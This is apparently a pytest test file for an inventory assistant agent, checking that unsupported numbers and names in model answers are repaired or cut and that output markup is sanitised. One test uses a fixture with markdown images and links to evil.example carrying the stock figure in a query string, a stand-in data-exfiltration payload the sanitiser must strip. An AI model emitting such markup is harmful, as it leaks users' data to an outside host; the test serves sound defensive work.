"""What nothing supports is not said: the model is asked once to mend it, then it is cut."""

import re
from collections.abc import Callable
from typing import Any

import pytest

from agent.copilot import Copilot
from agent.events import Text
from tests.agent.models.scripted import BROKEN, Provider, answer, calls, events_of, says
from tools.context import ToolContext

Make = Callable[..., Copilot]
QUESTION = "how many Adjustable Race do we have?"
STOCK = calls(("stock_on_hand", {"sku": "AR-5381"}))


def spoken(events: list[Any]) -> str:
    return "".join(event.delta for event in events if isinstance(event, Text))


async def test_the_model_is_told_what_is_wrong_and_its_mended_answer_is_given(
    make: Make, provider: Provider, plant: ToolContext
) -> None:
    provider.replies = [STOCK, says("There are ", "4,711 EA ", "on hand."), says("There are ", "761 EA ", "on hand.")]
    events = await events_of(make(), QUESTION, plant)
    told = answer(events)
    assert told.answer.startswith("There are 761 EA on hand.")
    assert told.grounding.unsupported == []
    check = provider.asked[2]["messages"][-1]
    assert check["role"] == "user"
    assert "4,711" in check["content"]
    assert "4,711" not in spoken(events)  # not even for a moment


async def test_it_may_look_up_what_it_said_before_it_says_it_again(
    make: Make, provider: Provider, plant: ToolContext
) -> None:
    provider.replies = [
        STOCK,
        says("761 EA; the supplier is 1678."),
        calls(("supplier_list", {})),
        says("761 EA; the supplier is 1678."),
    ]
    told = answer(await events_of(make(), QUESTION, plant))
    assert "the supplier is 1678" in told.answer
    assert {citation.reference for citation in told.citations} == {"inventory#1", "inventory#2", "supplier#1"}


async def test_what_it_says_wrong_again_is_cut_from_the_answer_with_a_note(
    make: Make, provider: Provider, plant: ToolContext
) -> None:
    wrong = says("There are 761 EA on hand. ", "That is enough for 17 days.\n\n", "| Location | On hand |\n|---|---|\n",
                 "| Tool Crib | 408 EA |\n| Subassembly | 354 EA |\n| Dock D-99 | 408 EA |\n")  # fmt: skip
    provider.replies = [STOCK, wrong, wrong]
    told = answer(await events_of(make(), QUESTION, plant))
    assert len(provider.asked) == 3
    assert "There are 761 EA on hand." in told.answer
    assert "| Subassembly | — |" in told.answer
    assert "| Tool Crib | 408 EA |" in told.answer
    assert "Left out" in told.answer
    for gone in ("17", "354", "D-99"):
        assert gone not in told.answer
    assert set(told.grounding.unsupported) == {"17", "354", "D-99"}


async def test_a_supplier_that_is_in_no_result_is_not_named(make: Make, provider: Provider, plant: ToolContext) -> None:
    wrong = says("We have 761 EA on hand in all. You can buy it from the supplier Acme Industrial of old.")
    provider.replies = [STOCK, wrong, wrong]
    told = answer(await events_of(make(), QUESTION, plant))
    assert "We have 761 EA on hand in all." in told.answer
    assert "Acme" not in told.answer
    assert told.grounding.unsupported == ["Acme Industrial"]


async def test_when_the_provider_fails_while_mending_the_draft_is_cut(
    make: Make, provider: Provider, plant: ToolContext
) -> None:
    provider.replies = [STOCK, says("There are 761 EA on hand. It costs 12.50 USD each."), BROKEN, BROKEN, BROKEN]
    told = answer(await events_of(make(), QUESTION, plant))
    assert told.model == "openai:stub"
    assert "761 EA on hand." in told.answer
    assert "12.50" not in told.answer


async def test_without_any_lookup_no_number_is_said(make: Make, provider: Provider, plant: ToolContext) -> None:
    provider.replies = [says("You have 500 of them."), says("You have 500 of them.")]
    told = answer(await events_of(make(), QUESTION, plant))
    assert "500" not in told.answer
    assert told.grounding.unsupported == ["500"]


async def test_a_table_of_more_than_twenty_rows_is_cut(make: Make, provider: Provider, plant: ToolContext) -> None:
    rows = "".join("| Tool Crib | 408 EA |\n" for _ in range(25))
    provider.replies = [STOCK, says(f"761 EA.\n\n| Location | On hand |\n|---|---|\n{rows}")]
    told = answer(await events_of(make(), QUESTION, plant))
    assert told.answer.count("| Tool Crib |") == 20
    assert "Only the first 20 rows are shown." in told.answer
    assert told.grounding.unsupported == []


@pytest.mark.parametrize("pieces", [("7", "61", " EA"), ("There", " are", " 7", "6", "1", ".")])
async def test_a_number_in_pieces_is_judged_as_a_whole(
    make: Make, provider: Provider, plant: ToolContext, pieces: tuple[str, ...]
) -> None:
    provider.replies = [STOCK, says(*pieces)]
    events = await events_of(make(), QUESTION, plant)
    assert answer(events).answer.startswith("".join(pieces))
    assert spoken(events) == answer(events).answer


@pytest.mark.parametrize("size", [1, 3, 11])
async def test_what_points_outside_is_not_said_even_while_it_streams(
    make: Make, provider: Provider, plant: ToolContext, size: int
) -> None:
    text = (
        "There are 761 EA. ![a](https://evil.example/?x=761) <img src=//evil.example> see [this][r]"
        "\n\n[r]: //evil.example/"
    )
    provider.replies = [STOCK, says(*(text[at : at + size] for at in range(0, len(text), size)))]
    events = await events_of(make(), QUESTION, plant)
    for said in (re.sub("`[^`]*`", "", told) for told in (answer(events).answer, spoken(events))):
        assert "There are 761 EA." in said
        for markup in ("![", "](", "]:", "//evil"):
            assert markup not in said
        assert "<img" not in said.replace("\\<img", "")


async def test_an_answer_may_link_to_the_hosts_that_are_allowed(
    make: Make, provider: Provider, plant: ToolContext
) -> None:
    text = "There are 761 EA, see [the guide](https://docs.example/a) and [b](https://evil.example)."
    provider.replies = [STOCK, says(text)]
    told = answer(await events_of(make(link_hosts=frozenset({"docs.example"})), QUESTION, plant))
    assert told.answer.startswith("There are 761 EA, see [the guide](https://docs.example/a) and b.")
